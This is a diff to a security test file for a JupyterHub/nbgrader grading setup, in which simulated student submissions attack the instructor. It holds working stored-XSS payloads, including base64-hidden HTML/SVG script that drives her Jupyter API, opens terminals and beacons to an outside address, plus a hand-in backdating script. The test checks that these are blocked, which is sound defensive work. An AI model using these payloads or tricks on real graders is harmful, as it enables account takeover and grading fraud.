@@ -2,14 +2,17 @@
 (hub/install.sh, hub/roster.py, hub/jupyterhub_config.py), real Linux accounts logging in
 through the hub's login page in headless Chromium, nbgrader's exchange, the sandboxed grading
 of `make grade` typed into an instructor's real terminal, the formgrader, and feedback fetched
-back by each student; what students and instructors cannot reach; a spoofed submission; two
-instructors at once; forty students at once; then a term: the hub killed and back, a backup
-restored, `make hub` again (edits kept, HTTPS), and `make hub-uninstall`. Screenshots go to
-build/hub-screenshots/, measurements to build/hub-report.json. Needs root (accounts) and
-Debian's Chromium; takes a quarter of an hour."""
+back by each student; what students and instructors cannot reach; a spoofed submission, one that
+hunts for the instructor's token and scripts her formgrader, a backdated hand-in and an entry
+without its submission secret; two instructors at once; forty students at once; then a term: the
+hub killed and back, a backup restored, `make hub` again (edits kept, HTTPS), and
+`make hub-uninstall`. Screenshots go to build/hub-screenshots/, measurements to
+build/hub-report.json. Needs root (accounts) and Debian's Chromium; takes a quarter of an hour."""
 
 from __future__ import annotations
 
+import base64
+import csv
 import hashlib
 import json
 import os
@@ -40,8 +43,10 @@ from hubtools import (
     stop_hub,
     xsrf,
 )
+from test_grading_secrets import LEAK
 
 from helpers.grading.autograde import solution_answers
+from helpers.grading.submissions import TIMESTAMP_FORMAT
 
 LESSON = "02_attention_lookup"
 PREFIX = Path(os.environ.get("HUB_TEST_PREFIX", "/var/tmp/attention-hub-test"))
@@ -71,13 +76,56 @@ def hub():
     REPORT.write_text(json.dumps(MEASURED, indent=2) + "\n")
 
 
+OUTSIDE = "198.51.100.7"  # a documentation address: a request to it is a payload leaking out
+
+
+def _js(name: str) -> str:
+    """What a payload does as the instructor, on her own server: write a file into the course
+    copy (her server's root), open a terminal, send a request out and show a dialog. No
+    whitespace or double quote: it must survive in an attribute."""
+    server = f"/user/{TEACHER[0]}/api"
+    return ("x=(document.cookie.match(/_xsrf=([^;]+)/)||[])[1];"
+            "h={'X-XSRFToken':x,'Content-Type':'application/json'};"
+            f"fetch('{server}/contents/pwned_{name}.txt',{{method:'PUT',headers:h,"
+            f"body:JSON.stringify({{type:'file',format:'text',content:'{name}'}})}});"
+            f"fetch('{server}/terminals',{{method:'POST',headers:h}});"
+            f"document.createElement('img').src='http://{OUTSIDE}/{name}';alert('{name}')")
+
+
+def _b64(text: str) -> str:
+    return base64.b64encode(text.encode()).decode()
+
+
+# A markdown answer with a frame whose page is a script, and an image whose error handler is one.
+MARKDOWN_PAYLOAD = (f'<iframe srcdoc="<script>{_js("md_iframe")}</script>"></iframe>\n\n'
+                    f'<img src=x onerror="{_js("md_img")}">')
+# Lines added to a solution cell: at grading time it displays HTML decoded from base64 and an SVG
+# holding a script, which no scan of the source can read.
+DISPLAY_PAYLOAD = "\n".join([
+    "import base64 as _b",
+    "from IPython.display import HTML as _H, SVG as _S, display as _d",
+    "_d(_H(_b.b64decode('{}').decode()))".format(
+        _b64(f"<b>ok</b><script>{_js('out_html')}</script><img src=x onerror=\"{_js('out_img')}\">")),
+    "_d(_S(data=_b.b64decode('{}').decode()))".format(
+        _b64(f'<svg xmlns="http://www.w3.org/2000/svg" width="4" height="4"><script>{_js("out_svg")}'
+             '</script><rect width="4" height="4"/></svg>')),
+])
+
+
 def _answers() -> dict[str, dict[str, str]]:
+    """What each student types. The one with the classic mistake also tries everything a student
+    can against the grader: an answer that prints the grading kernel's environment and every
+    process environment it can read (quiz_1), script in the free-text answer (why_rows) and
+    script displayed at grading time (softmax)."""
     full = solution_answers(LESSON)
     full["why_rows"] = ("Each row belongs to one query: its weights over the keys must be positive "
                         "and sum to 1, so the output is an average of the values.")
     mistaken = full["attention"].replace("/ np.sqrt(d_k)", "")
     assert mistaken != full["attention"], "the reference attention changed: update the classic mistake"
-    return {RIGHT[0]: full, MISTAKE[0]: {**full, "attention": mistaken}, BLANK[0]: {}}
+    cheat = {**full, "attention": mistaken, "quiz_1": full["quiz_1"] + "\n" + LEAK,
+             "why_rows": full["why_rows"] + "\n\n" + MARKDOWN_PAYLOAD,
+             "softmax": full["softmax"] + "\n" + DISPLAY_PAYLOAD}
+    return {RIGHT[0]: full, MISTAKE[0]: cheat, BLANK[0]: {}}
 
 
 def _put_answers(context, hub: Hub, user: str, answers: dict[str, str]) -> None:
@@ -131,6 +179,12 @@ def _mib(n: int | None) -> float | None:
 def test_a_class_day_in_the_browser(hub):
     answers = _answers()
     expected = {RIGHT[0]: (13, 2), MISTAKE[0]: (9, 1), BLANK[0]: (0, 0)}  # (automatic, by hand)
+    # The cheat's script is found: its automatic points are computed and kept, but count 0 until an
+    # instructor takes the hold back (make restore); its hand grade counts.
+    held = {MISTAKE[0]}
+    # The last to hand in backdates it, past the due time; then its collected copies lose their
+    # submission_secret.txt, as a hand-made entry's would: it gets no feedback, the others do.
+    late = broken = BLANK[0]
     from playwright.sync_api import sync_playwright
 
     with sync_playwright() as pw:
@@ -151,7 +205,7 @@ def test_a_class_day_in_the_browser(hub):
         page.wait_for_timeout(1000)
         _shot(page, "instructor-released")
 
-        students = {}
+        students, submitting, handed_in = {}, {}, {}
         for user, _, password in (RIGHT, MISTAKE, BLANK):
             context = person()
             began = time.monotonic()
@@ -187,53 +241,84 @@ def test_a_class_day_in_the_browser(hub):
             else:
                 assert "Success" not in verdict, f"{user}'s notebook passed validation: {verdict}"
             dialog.locator("button").last.click()
+            submitting[user] = datetime.now(UTC)
             spage.locator("#fetched_assignments_list button", has_text="Submit").click()
             spage.wait_for_selector("#submitted_assignments_list .list_item", timeout=120_000)
+            handed_in[user] = datetime.now(UTC)
             _shot(spage, f"{user}-submitted")
 
         # One student hands in a blank notebook in a classmate's name, a minute after the
         # classmate's own: nbgrader alone would grade it as the classmate's latest.
         fake = _hand_in_as(hub, by=MISTAKE[0], named=RIGHT[0])
+        # The last one, after the due time, makes the hand-in say ten minutes earlier.
+        before = max(t for u, t in handed_in.items() if u != late)
+        due = (before + (submitting[late] - before) / 2).replace(microsecond=0)  # between the two
+        forged = _backdate(hub, late, due - timedelta(minutes=10))
 
         # The instructor collects from the exchange and grades in the sandbox, in a JupyterLab
-        # terminal of the hub, as docs/hub.md says.
+        # terminal of the hub, as docs/hub.md says. Her terminal holds her hub token.
         terminal = Terminal(session_of(teacher, hub), TEACHER[0])
         where, status = terminal.run("pwd; which nbgrader python")
         lines = where.replace("\r", "").splitlines()
         assert str(hub.settings.course) in lines, f"the terminal opens elsewhere: {lines}"
         assert str(HUB_ENV / "bin" / "nbgrader") in lines, f"nbgrader is not the hub's: {lines}"
+        hers = _secrets_of(terminal)
         listing, status = terminal.run(f"python -m helpers.grading.exchange {LESSON}")
         spoofed = f"names {RIGHT[0]} but was handed in by {MISTAKE[0]}"
         assert status == 0 and f"REFUSED: {spoofed}" in listing, listing
-        graded, status = terminal.run(f"make grade LESSON={LESSON} SUBMISSIONS=exchange")
+        assert f"{forged!r}  owner {late}  accepted" in listing.replace("\r", ""), listing
+        graded, status = terminal.run(f"make grade LESSON={LESSON} SUBMISSIONS=exchange "
+                                      f'DUE="{due:%Y-%m-%d %H:%M:%S} UTC"')
         graded = graded.replace("\r", "")
         assert status == 0, f"make grade in the instructor's terminal failed:\n{graded[-4000:]}"
         assert "collected from the exchange" in graded
         assert f"REFUSED {fake!r}: {spoofed}" in graded, graded[-3000:]
         assert "NOT SANDBOXED" not in graded
         MEASURED["spoofed_submission"] = next(x.strip() for x in graded.splitlines() if "REFUSED" in x)
-        assert (hub.settings.course / "grading" / f"mistakes_{LESSON}.csv").exists()
+        course = hub.settings.course
+        assert (course / "grading" / f"mistakes_{LESSON}.csv").exists()
+        MEASURED["backdated_hand_in"] = _late_hand_ins(graded, course, late, due)
+        MEASURED["active_content_in_the_report"] = _active_content_named(graded, course, MISTAKE[0])
         subs = {s["student"]: s for s in _formgrader(teacher, hub, f"submissions/{LESSON}")}
         for user, (auto, _) in expected.items():
-            assert subs[user]["code_score"] == auto, (user, subs[user])
+            assert subs[user]["code_score"] == (0 if user in held else auto), (user, subs[user])
         # ... hand-grades the free-text answer in the formgrader ...
         notebooks = {n["student"]: n
                      for n in _formgrader(teacher, hub, f"submitted_notebooks/{LESSON}/{LESSON}")}
-        for user, (_, by_hand) in expected.items():
+        for user, (auto, by_hand) in expected.items():
             grades = _formgrader(teacher, hub, f"grades?submission_id={notebooks[user]['id']}")
+            computed = sum(g["auto_score"] or 0 for g in grades if g["cell_type"] == "code")
+            assert computed == auto, f"{user}'s answers were not all graded: {computed} of {auto} points"
+            if user in held:  # kept, and overridden by a 0 on each automatically graded cell
+                assert {g["manual_score"] for g in grades if g["cell_type"] == "code"} == {0}, grades
             free = next(g for g in grades if g["name"] == "why_rows")
             _formgrader(teacher, hub, f"grade/{free['id']}", "PUT", {"manual_score": by_hand})
-        page.goto(f"{hub.url}/user/{TEACHER[0]}/formgrader/submissions/{notebooks[MISTAKE[0]]['id']}/?index=0")
-        page.locator("text=Think (2 points").first.wait_for(timeout=60_000)
-        page.locator("text=Think (2 points").first.scroll_into_view_if_needed()
-        _shot(page, "instructor-hand-grading")
-        # ... and releases the feedback.
+        # ... on the page of the submission that carries script, which runs none of it.
+        MEASURED["payloads_in_the_formgrader"] = _open_without_running(
+            page, teacher, hub, f"submissions/{notebooks[MISTAKE[0]]['id']}/?index=0")
+        # ... and releases the feedback; one entry lost its submission_secret.txt meanwhile.
+        _break_entry(terminal, course, broken)
         returned, status = terminal.run(f"make feedback LESSON={LESSON} RELEASE=1")
-        assert status == 0, returned[-3000:]
+        returned = returned.replace("\r", "")
+        (no_feedback,) = [x.strip() for x in returned.splitlines() if x.startswith("NO FEEDBACK")]
+        folder = course / "grading" / "feedback" / broken / LESSON
+        said = f"NO FEEDBACK for {broken}: submission_secret.txt missing in {folder}"
+        assert no_feedback.startswith(said), returned[-3000:]
+        assert f"released to {len(expected) - 1} student(s)" in returned, returned[-3000:]
+        assert "STOPPED" not in returned and status != 0, returned[-3000:]
+        assert re.search(r"\[Makefile:\d+: feedback\] Error 1$", returned, re.M), \
+            f"make feedback must fail for the one entry only (status 1):\n{returned[-3000:]}"
+        released = sorted((hub.exchange / classhub.COURSE_ID / "feedback").glob("*.html"))
+        assert len(released) == len(expected) - 1, released
+        MEASURED["one_broken_entry"] = {"said": no_feedback, "make_feedback_status": status,
+                                        "pages_released": len(released)}
         terminal.close()
 
-        # Each student fetches the feedback and reads the score and the named mistake.
+        # Each other student fetches the feedback and reads the score and the named mistake.
+        pages = {}
         for user, (auto, by_hand) in expected.items():
+            if user == broken:
+                continue
             context, spage = students[user]
             open_assignments(spage)
             spage.locator("#refresh_assignments_list").click()
@@ -243,17 +328,157 @@ def test_a_class_day_in_the_browser(hub):
             listing = context.request.get(f"{hub.url}/user/{user}/api/contents/{LESSON}/feedback").json()
             stamp = listing["content"][0]["name"]
             spage.goto(f"{hub.url}/user/{user}/files/{LESSON}/feedback/{stamp}/{LESSON}.html")
+            pages[user] = Path(pwd.getpwnam(user).pw_dir) / LESSON / "feedback" / stamp / f"{LESSON}.html"
             _shot(spage, f"{user}-feedback")
             text = spage.inner_text("body")
             score = re.search(r"Score:\s*([\d.]+)\s*/\s*([\d.]+)", text)
-            assert score and float(score.group(1)) == auto + by_hand, (user, score and score.group(0))
+            counted = by_hand + (0 if user in held else auto)
+            assert score and float(score.group(1)) == counted, (user, score and score.group(0))
+            if user in held:
+                assert "Held for review" in text, f"{user}'s page does not say why the score is held"
             if user == MISTAKE[0]:
                 named = spage.locator("text=not divided by √d_k").first
                 assert named.count(), "the feedback must name the missing √d_k"
                 named.scroll_into_view_if_needed()
                 _shot(spage, f"{user}-feedback-mistake")
         browser.close()
+    MEASURED["no_token_reaches_a_student"] = _nothing_of_hers_in(hers, course, pages, MISTAKE[0])
     MEASURED["screenshots"] = sorted(p.name for p in SHOTS.glob("*.png"))
+
+
+def _secrets_of(terminal: Terminal) -> dict[str, str]:
+    """The instructor's hub token (as both names the hub gives it) and HOME, read in her terminal."""
+    names = ("JUPYTERHUB_API_TOKEN", "JPY_API_TOKEN", "HOME")
+    out, status = terminal.run("echo " + " ".join(f'"@{n}=${{{n}}}@"' for n in names))
+    found = dict(re.findall(r"@(\w+)=([^@${}\s]+)@", out))  # the values, not the command echoed
+    assert status == 0 and set(found) == set(names), out
+    assert len(found["JUPYTERHUB_API_TOKEN"]) >= 16, found
+    assert found["HOME"] == pwd.getpwnam(TEACHER[0]).pw_dir, found
+    return found
+
+
+def _nothing_of_hers_in(hers: dict[str, str], course: Path, fetched: dict[str, Path], leaker: str) -> dict:
+    """Neither her token nor her HOME is in any feedback page (written, and fetched by a student)
+    or graded notebook; the leaking answer did run and print an environment."""
+    grading = course / "grading"
+    graded = grading / "autograded" / leaker / LESSON / f"{LESSON}.ipynb"
+    printed = graded.read_text()
+    assert "ENVIRON" in printed and "READABLE" in printed and "'PATH':" in printed, \
+        "the leaking answer did not run at grading time"
+    files = [*fetched.values(), *sorted(grading.glob(f"feedback/*/{LESSON}/*.html")),
+             *sorted(grading.glob(f"autograded/*/{LESSON}/{LESSON}.ipynb"))]
+    assert fetched[leaker] in files and graded in files
+    found = {}
+    for path in files:
+        text = path.read_text(errors="replace")
+        hits = [name for name, value in hers.items() if value in text]
+        hits += [word for word in ("JUPYTERHUB", "JPY_API") if word in text]
+        if hits:
+            found[str(path)] = hits
+    assert not found, f"the instructor's secrets reach students: {found}"
+    outputs = [o for c in json.loads(printed)["cells"] for o in c.get("outputs", [])]
+    output = "".join("".join(o.get("text", "")) for o in outputs)  # stream text: a string or lines
+    return {"files_checked": len(files), "feedback_pages": sum(p.suffix == ".html" for p in files),
+            "files_with_her_secrets": len(found),
+            "environ_the_graded_kernel_read": sorted(set(re.findall(r"^READ (\S+)", output, re.M))),
+            "environ_blocked": len(re.findall(r"^BLOCKED ", output, re.M))}
+
+
+def _backdate(hub: Hub, user: str, when: datetime) -> str:
+    """What a student can do from their terminal: rename their own inbound folder and rewrite its
+    timestamp.txt to claim an earlier hand-in. Returns the new name."""
+    inbound = hub.exchange / classhub.COURSE_ID / "inbound"
+    (own,) = [p for p in inbound.glob(f"{user}+{LESSON}+*") if p.owner() == user]
+    stamp = when.astimezone(UTC).strftime(TIMESTAMP_FORMAT)
+    name = f"{user}+{LESSON}+{stamp}+{own.name.rsplit('+', 1)[1]}"
+    script = 'mv "$0" "$1" && chmod u+w "$1/timestamp.txt" && printf %s "$2" > "$1/timestamp.txt"'
+    made = hub.as_user(user, "student", "sh", "-c", script, str(own), str(inbound / name), stamp,
+                       cwd=Path("/tmp"))
+    assert made.returncode == 0, made.stderr
+    return name
+
+
+def _late_hand_ins(graded: str, course: Path, late: str, due: datetime) -> dict:
+    """The backdated hand-in is named late, on the screen and in the hand-in table; the others,
+    handed in before the due time, are not; lateness costs no points (no late penalty is set)."""
+    lines = [x.strip() for x in graded.splitlines() if x.strip().startswith(("LATE ", "HAND-IN TIME"))]
+    assert {x.split(":")[0] for x in lines if x.startswith("LATE ")} == {f"LATE {late}"}, graded[-3000:]
+    assert any(x.startswith(f"HAND-IN TIME of {late}: ") and "the later time counts" in x
+               for x in lines), lines
+    with (course / "grading" / f"handins_{LESSON}.csv").open() as f:
+        rows = {r["student"]: r for r in csv.DictReader(f)}
+    assert float(rows[late]["late_seconds"]) > 0, rows[late]
+    seconds = {s: r["late_seconds"] for s, r in rows.items()}
+    assert seconds == {RIGHT[0]: "0", MISTAKE[0]: "0", late: seconds[late]}, rows
+    return {"due": f"{due:%H:%M:%S} UTC", "said": lines, "late_seconds": seconds}
+
+
+def _active_content_named(graded: str, course: Path, student: str) -> list[str]:
+    """The grading report (on the screen and in grading/report_<lesson>.txt) names the script in
+    the student's markdown answer and in what their code displayed at grading time."""
+    report = (course / "grading" / f"report_{LESSON}.txt").read_text()
+    named = [x.strip() for x in graded.splitlines() if f"{student}: tamper javascript in " in x]
+    assert any("why_rows: active content in a markdown answer: <iframe" in x for x in named), named
+    assert any("softmax: active content in an output displayed at grading time: <script" in x
+               for x in named), named
+    assert all(x.startswith("ZEROED ") and x in report for x in named), named
+    return named
+
+
+def _open_without_running(page, context, hub: Hub, path: str) -> dict:
+    """The instructor opens a submission's page in the formgrader: no dialog, no request of the
+    payloads (her contents or terminals, or another host), no file written, no terminal opened;
+    the page is served under a policy that runs no inline script of the submission's."""
+    terminals = f"{hub.url}/user/{TEACHER[0]}/api/terminals"
+    before = len(context.request.get(terminals).json())
+    requests, dialogs = [], []
+
+    def on_request(r):
+        requests.append((r.method, r.url))
+
+    def on_dialog(d):
+        dialogs.append(d.message)
+        d.dismiss()
+
+    page.on("request", on_request)
+    page.on("dialog", on_dialog)
+    try:
+        shown = page.goto(f"{hub.url}/user/{TEACHER[0]}/formgrader/{path}")
+        page.locator("text=Think (2 points").first.wait_for(timeout=60_000)
+        page.wait_for_timeout(3000)  # time for any payload to act
+        page.get_by_text("<iframe srcdoc=").first.scroll_into_view_if_needed()
+        _shot(page, "instructor-hand-grading")
+        text = page.inner_text("body")
+        frames = [f.url for f in page.frames[1:]]
+        active = page.locator("iframe[srcdoc], object, embed, svg script").count()
+    finally:
+        page.remove_listener("request", on_request)
+        page.remove_listener("dialog", on_dialog)
+    policy = shown.headers.get("content-security-policy", "")
+    script = next((d.strip() for d in policy.split(";") if d.strip().startswith("script-src")), "")
+    assert script.startswith("script-src 'self' 'sha256-") and "'unsafe-inline'" not in script, policy
+    assert "<iframe srcdoc=" in text and not active, "the instructor should see the attempt, as text"
+    # (about:blank, an empty frame's first page, loads nothing)
+    payloads = [(m, u) for m, u in requests if not u.startswith((hub.url, "data:", "blob:", "about:blank"))
+                or "pwned" in u or "/api/contents" in u or "/api/terminals" in u]
+    assert not dialogs and not payloads, f"the payloads ran: dialogs {dialogs}, requests {payloads}"
+    pwned = sorted(hub.settings.course.rglob("pwned*"))
+    assert not pwned, f"a payload wrote into the course copy: {pwned}"
+    after = len(context.request.get(terminals).json())
+    assert after == before, f"a payload opened a terminal: {before} -> {after}"
+    return {"requests": len(requests), "payload_requests": len(payloads), "dialogs": len(dialogs),
+            "pwned_files": len(pwned), "terminals": f"{before} -> {after}", "frames": frames,
+            "script_policy": script[:80]}
+
+
+def _break_entry(terminal: Terminal, course: Path, student: str) -> None:
+    """Take submission_secret.txt out of the student's copies in the grading folder, as a
+    submission that never came through nbgrader's Submit has none."""
+    copies = [course / "grading" / step / student / LESSON / "submission_secret.txt"
+              for step in ("submitted", "autograded", "feedback")]
+    assert copies[0].is_file(), f"no {copies[0]}: where does make grade put the collected copy?"
+    out, status = terminal.run("rm " + " ".join(f"'{p}'" for p in copies if p.is_file()))
+    assert status == 0 and not any(p.exists() for p in copies), out
 
 
 def _hand_in_as(hub: Hub, by: str, named: str) -> str:
@@ -468,7 +693,7 @@ def test_two_instructors_grade_and_hand_grade_the_same_lesson_at_once(hub):
     subs = teacher2.get(f"{hub.url}/user/{TEACHER2[0]}/formgrader/api/submissions/{LESSON}", timeout=120,
                         headers={"X-XSRFToken": teacher2.cookies.get("_xsrf", path=f"/user/{TEACHER2[0]}/")})
     scores = {x["student"]: (x["code_score"], x["written_score"]) for x in subs.json()}
-    assert scores[RIGHT[0]] == (13, 2) and scores[MISTAKE[0]] == (9, 2), scores
+    assert scores[RIGHT[0]] == (13, 2) and scores[MISTAKE[0]] == (0, 2), scores  # its script: held again
 
 
 # ------------------------------------------------------------------ a class at once
